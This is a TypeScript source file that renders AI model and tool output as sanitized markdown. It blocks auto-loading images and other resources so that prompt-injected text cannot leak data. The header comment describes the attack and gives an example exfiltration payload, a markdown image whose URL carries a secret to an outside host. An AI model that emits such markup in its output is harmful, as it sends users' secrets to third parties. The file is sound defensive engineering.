/**
 * Model and tool text as sanitized markdown: marked parses, DOMPurify sanitizes, and the
 * result is a DocumentFragment — never an HTML string assigned to innerHTML.
 *
 * Rendering never makes the browser fetch anything. Text from a model or a tool may carry
 * a prompt injection (from a page it fetched or a file it read), and markup that loads a
 * resource on its own — `![](http://host/?d=<secret>)` above all — would send data out
 * the moment it renders. So no element that loads by itself survives: remote images
 * become a placeholder naming the host, which loads the image only when the user clicks
 * it; `data:` images of raster types (what a tool produced as data) render inline. Links
 * stay: they fetch only on a click.
 *
 * DOMPurify parses into an inert document (no browsing context, so nothing there loads)
 * and hands back its nodes as a fragment without re-parsing; the hooks below strip every
 * loading URL before the fragment can reach the page.
 */
import DOMPurify from "dompurify";
import { Marked } from "marked";
import remend from "remend";
import { colourDiffBlocks } from "./diff-lines";
import { addCodeBreaks } from "./dom";

// A private Marked instance: another bundle on the page configuring the global `marked`
// cannot change how we render.
const marked = new Marked({ gfm: true, breaks: false, async: false });

/** Images a tool produced as data, in types that cannot carry script or fetches (SVG
 * can, so it is not here). */
const INLINE_DATA_IMAGE = /^data:image\/(?:png|jpeg|gif|webp)[;,]/i;

/** Class tokens kept on model markup: marked's code-block languages. Any other class
 * could pick up a page stylesheet rule (one that loads a background image or a font) or
 * dress model text up as one of our own controls. */
const KEPT_CLASS = /^language-[\w+#.-]+$/;

const PLACEHOLDER_CLASS = "neta-remote-image";

// Images held back while one sanitize call runs, with the URL each would have loaded.
// Filled by the hook, consumed right after by renderMarkdown (sanitize is synchronous).
let heldImages: Array<{ image: Element; url: URL }> = [];

let hooksInstalled = false;

function installHooks(): void {
  if (hooksInstalled) return;
  hooksInstalled = true;
  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    if (!(node instanceof Element)) return;
    const tag = node.tagName;
    // Links open outside the notebook and never get the opener. DOMPurify already drops
    // `javascript:` and other unsafe URLs (its default allowed-URI pattern).
    if (tag === "A" && node.hasAttribute("href")) {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer nofollow");
    }
    // Only links may point somewhere and only <img> may have a source: a guard behind
    // FORBID_TAGS, should a loading element ever be allowed again.
    if (tag !== "A") node.removeAttribute("href");
    if (tag !== "IMG") node.removeAttribute("src");
    if (node.hasAttribute("class")) {
      const kept = (node.getAttribute("class") ?? "").split(/\s+/).filter((c) => KEPT_CLASS.test(c));
      if (kept.length > 0) node.setAttribute("class", kept.join(" "));
      else node.removeAttribute("class");
    }
    if (tag === "IMG") holdImage(node);
  });
}

/** Keep a `data:` raster image; take the source off any other image (the placeholder
 * gets it back on a click), or drop the image when its source is nothing loadable. */
function holdImage(image: Element): void {
  const src = (image.getAttribute("src") ?? "").trim();
  if (INLINE_DATA_IMAGE.test(src)) return;
  image.removeAttribute("src");
  let url: URL | null = null;
  try {
    url = src ? new URL(src, document.baseURI) : null;
  } catch {
    url = null;
  }
  if (url && (url.protocol === "http:" || url.protocol === "https:")) {
    heldImages.push({ image, url });
  } else {
    // Nothing a click could load (no source, an SVG or other data URI, cid:, …): its
    // alt text, if any, stays as text.
    const alt = image.getAttribute("alt") ?? "";
    image.replaceWith(image.ownerDocument.createTextNode(alt));
  }
}

/** A link-like button in place of a remote image: it names the host (the words "image
 * from" come from CSS, per language) and loads the image only when clicked. */
function imagePlaceholder(image: Element, url: URL): HTMLElement {
  const alt = image.getAttribute("alt") ?? "";
  const title = image.getAttribute("title");
  const button = document.createElement("button");
  button.type = "button";
  button.className = PLACEHOLDER_CLASS;
  button.title = url.href;
  const icon = document.createElement("span");
  icon.className = `${PLACEHOLDER_CLASS}-icon`;
  icon.setAttribute("aria-hidden", "true");
  const host = document.createElement("span");
  host.className = `${PLACEHOLDER_CLASS}-host`;
  host.textContent = url.host;
  button.append(icon, host);
  if (alt) {
    const altText = document.createElement("span");
    altText.className = `${PLACEHOLDER_CLASS}-alt`;
    altText.textContent = alt;
    button.append(altText);
  }
  button.addEventListener("click", (event) => {
    // The placeholder may sit inside a link (`[![alt](img)](page)`): the click loads the
    // image, it does not follow the link.
    event.preventDefault();
    event.stopPropagation();
    const loaded = document.createElement("img");
    loaded.alt = alt;
    if (title) loaded.title = title;
    loaded.referrerPolicy = "no-referrer";
    loaded.src = url.href;
    button.replaceWith(loaded);
  }, { once: true });
  return button;
}

const SANITIZE_OPTIONS = {
  RETURN_DOM_FRAGMENT: true as const,
  // HTML only: SVG and MathML carry loading attributes of their own (<image href>, <use>,
  // <feImage>, `fill="url(…)"`, <mglyph src>) and model answers do not need them.
  USE_PROFILES: { html: true },
  // Forbidden even where DOMPurify would not allow them anyway, so that no later change
  // to the profile lets a loading element back in: media and embedded documents load
  // their sources, <link>/<meta refresh>/<base> fetch or redirect, forms submit, and
  // <noscript>/<template> parse differently once live.
  FORBID_TAGS: [
    "style", "link", "meta", "base", "form", "input", "button", "textarea", "select",
    "iframe", "frame", "frameset", "object", "embed", "applet", "portal", "picture",
    "source", "video", "audio", "track", "image", "svg", "math", "use", "feimage",
    "noscript", "template",
  ],
  // Attributes that load (srcset, poster, background, ping), submit (action, formaction),
  // carry CSS with url() (style) or name a page web font that would load on first use
  // (face).
  FORBID_ATTR: [
    "style", "srcset", "sizes", "poster", "background", "ping", "action", "formaction",
    "xlink:href", "lowsrc", "dynsrc", "face",
  ],
};

/** Sanitized DOM for a markdown string. */
export function renderMarkdown(text: string): DocumentFragment {
  const fragment = renderSanitizedHtml(marked.parse(text) as string);
  colourDiffBlocks(fragment);
  addCodeBreaks(fragment);
  return fragment;
}

/** Sanitized DOM for HTML a tool displayed (a DataFrame's table), by the same rules as
 * markdown: no script, no style, nothing that loads. */
export function renderSanitizedHtml(html: string): DocumentFragment {
  installHooks();
  heldImages = [];
  const fragment = DOMPurify.sanitize(html, SANITIZE_OPTIONS);
  const held = heldImages;
  heldImages = [];
  for (const { image, url } of held) {
    if (fragment.contains(image)) image.replaceWith(imagePlaceholder(image, url));
  }
  return fragment;
}

/** An image at the very end of a streamed text that has not ended yet: `![alt` or
 * `![alt](http://host/pa`. */
const UNFINISHED_IMAGE = /!\[[^\]\n]*(?:\]\([^)\s]*)?$/;

/**
 * The still-growing end of a streamed answer with the markup it has opened and not yet
 * closed closed (`**bo` → `**bo**`, `` `pri `` → `` `pri` ``, `~~st` → `~~st~~`), so it
 * renders as it will once whole instead of showing raw `**` and backticks for a moment.
 * remend does the healing; what it would show differently from the final rendering is off:
 * an unfinished link shows its text only (no placeholder URL), an unfinished image stays
 * text until its `)` arrives (nothing loads early), and no character is escaped that the
 * whole text will not escape.
 */
export function healedTail(text: string): string {
  // An image still arriving is left out until its `)` (remend would point it at a
  // placeholder URL, which the sanitizer would then draw as a remote image's stand-in).
  const healed = remend(text.replace(UNFINISHED_IMAGE, ""), {
    linkMode: "text-only",
    images: false,
    comparisonOperators: false,
    singleTilde: false,
    inlineKatex: false,
    katex: false,
  });
  // A marker that has just arrived with nothing after it yet (`the **`, `the ~~`, a lone
  // backtick) cannot be closed around anything, and remend leaves it raw: it is held back
  // until its first character comes. Inside an open code fence every character is code.
  // (The fence is looked for only when such a marker ends the text: not on every frame.)
  return DANGLING_MARKER.test(healed) && !insideOpenFence(healed) ? healed.replace(DANGLING_MARKER, "$1") : healed;
}

/** A run of emphasis, strikethrough or code markers at the very end, opening nothing yet. */
const DANGLING_MARKER = /(^|\s)[*_~`]+[ \t]*$/;

/** A line that opens or closes a code fence. */
const FENCE_LINE = /^\s{0,3}(```|~~~)/;

/** Whether `text` ends inside a ``` or ~~~ fence that has not been closed. */
function insideOpenFence(text: string): boolean {
  let open = false;
  for (const line of text.split("\n")) {
    if (FENCE_LINE.test(line)) open = !open;
  }
  return open;
}

/** Replace the children of `target` with the sanitized rendering of `text`. */
export function setMarkdown(target: HTMLElement, text: string): void {
  target.replaceChildren(renderMarkdown(text));
}

/**
 * The end of the longest prefix of `text` (from `start`) that ends at a blank line outside a
 * code fence. Blocks before it will not change when more text is appended, so a streaming
 * view renders them once and re-renders only the tail.
 */
export function stableBoundary(text: string, start: number): number {
  let boundary = start;
  let inFence = false;
  let lineStart = start;
  let previousBlank = false;
  while (lineStart < text.length) {
    const newline = text.indexOf("\n", lineStart);
    if (newline === -1) break; // the last line may still grow
    const line = text.slice(lineStart, newline);
    if (FENCE_LINE.test(line)) inFence = !inFence;
    const blank = line.trim() === "";
    if (blank && !inFence && !previousBlank && lineStart > start) boundary = newline + 1;
    previousBlank = blank;
    lineStart = newline + 1;
  }
  return boundary;
}
